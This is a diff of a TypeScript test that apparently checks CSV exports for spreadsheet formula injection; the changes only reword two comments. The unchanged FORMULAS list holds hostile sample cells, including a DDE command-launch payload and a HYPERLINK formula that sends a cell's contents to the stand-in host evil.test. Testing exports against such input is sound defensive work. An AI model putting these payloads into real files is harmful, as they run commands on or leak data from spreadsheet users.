@@ -7,7 +7,7 @@ import { startTestPlatform } from '../contract/support/startTestPlatform';
 const platform = startTestPlatform();
 const days = { startDate: '2026-01-01', endDate: '2026-01-31' };
 
-/** Names a spreadsheet would run. */
+/** Names that a spreadsheet would run as formulas. */
 const FORMULAS = [
   `=cmd|' /C calc'!A0`,
   '=HYPERLINK("https://evil.test?x="&A1,"click")',
@@ -25,7 +25,7 @@ const FORMULAS = [
   '=1+1,"quoted"\n=2+2',
 ];
 
-/** The cells of one column of a CSV file, read as RFC 4180 says. */
+/** Returns the cells of a CSV column, parsed by RFC 4180. */
 function column(csv: string, index: number): string[] {
   const cells = [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n)/g)];
   const rows: string[][] = [[]];
